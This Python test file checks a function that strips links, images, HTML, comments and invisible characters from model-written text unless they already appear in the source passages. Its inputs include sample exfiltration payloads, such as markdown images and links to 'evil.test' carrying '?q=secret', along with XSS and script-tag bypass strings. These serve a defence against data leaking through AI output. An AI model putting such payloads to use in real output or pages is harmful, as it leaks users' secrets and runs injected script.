"""What a model writes has no links, pictures and tags but those of the passages."""

import pytest

from backend.knowledge.writing.cleaning import clean

SHOWN = "See [the manual](https://example.org/manual), and write `<img>` as <b>tags</b>."


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("Look here ![](https://evil.test/?q=secret).", "Look here ."),
        ("![all](https://evil.test/a.png) Look.", "Look."),
        ("![all][evil] Look.", "Look."),
        ("[Look](https://evil.test/?q=secret) here.", "Look here."),
        ("[Look](//evil.test) here.", "Look here."),
        ("[Look][1] here.\n\n[1]: https://evil.test", "Look here."),
        ("[![a](https://evil.test/a.png)](https://evil.test) Look.", "Look."),
        ("[Look](https://evil.test/", "Look"),
        ("Look <img src=https://evil.test/?q=1>here.", "Look here."),
        ("Look <img src=x onerror=alert(1)", "Look"),
        ("<scr<script>ipt>alert(1)</script>", "ipt>alert(1)"),
        ("<!-- hidden -->Look.", "Look."),
        ("See [the manual](https://example.org/manual).",) * 2,
        ("See [the manual](https://example.org/manual?q=secret).", "See the manual."),
        ("Write `<img>`.",) * 2,
        ("Lo\u200bok\u202e \U000e0041here.", "Look here."),
    ],
)
def test_it_is_cleaned(text: str, cleaned: str) -> None:
    assert clean(text, SHOWN) == cleaned
